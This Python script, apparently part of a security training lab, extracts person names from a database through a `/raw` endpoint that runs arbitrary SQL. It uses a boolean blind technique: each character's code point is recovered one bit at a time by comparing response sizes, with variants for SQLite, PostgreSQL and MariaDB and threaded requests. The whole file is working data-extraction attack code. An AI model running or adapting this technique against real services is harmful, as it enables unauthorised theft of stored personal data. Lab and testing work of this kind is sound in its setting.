"""One bit a request, four at a time: `/raw`, whose parameter is the statement itself, says whether there is a row.

Code points by their bits, for MariaDB the hexadecimal digits of the UTF-8 bytes by theirs (its ORD counts bytes). Every
eleventh request loses patience and is sent again, every thirteenth is sent twice.
"""

from concurrent.futures import ThreadPoolExecutor
from functools import partial

from drills.laboratory.scripts.client import Client
from drills.laboratory.truth import Cell

_PAGE = "/raw?q="
_THREADS = 4
_CODE = {"sqlite": "unicode", "postgresql": "ascii", "mariadb": "ascii"}
_LENGTH = {"sqlite": "length", "postgresql": "char_length", "mariadb": "char_length"}


def take(site: str, dbms: str, source_address: str, *, persons: tuple[int, ...]) -> list[Cell]:
    """The names of `persons` (ids)."""
    client = Client(site, source_address)
    found_size = client.get(_PAGE, "select 1").size
    cells = []
    with ThreadPoolExecutor(_THREADS) as threads:
        for person in persons:
            column = "hex(name)" if dbms == "mariadb" else "name"
            secret = f"(select {column} from person where id={person})"
            ask = partial(_bit, client, found_size)
            length = _number(list(threads.map(partial(ask, f"{_LENGTH[dbms]}({secret})"), range(8))))
            bits = 7 if dbms == "mariadb" else 17
            codes = [f"{_CODE[dbms]}(substr({secret},{position},1))" for position in range(1, length + 1)]
            asked = [(code, bit) for code in codes for bit in range(bits)]
            answers = list(threads.map(ask, *zip(*asked, strict=True)))
            value = "".join(chr(_number(answers[at : at + bits])) for at in range(0, len(answers), bits))
            if dbms == "mariadb":
                value = bytes.fromhex(value).decode("utf-8")
            cells.append(Cell("person", "name", None, value))
    return cells


def _bit(client: Client, found_size: int, number: str, bit: int) -> bool:
    statement = f"select id from item where id=1 and ({number} >> {bit}) & 1 = 1"
    turn = sum(statement.encode()) % 143
    if turn % 11 == 0:
        client.give_up(_PAGE, statement)
    if turn % 13 == 0:
        client.get(_PAGE, statement)
    return client.get(_PAGE, statement).size == found_size


def _number(bits: list[bool]) -> int:
    return sum(1 << place for place, bit in enumerate(bits) if bit)
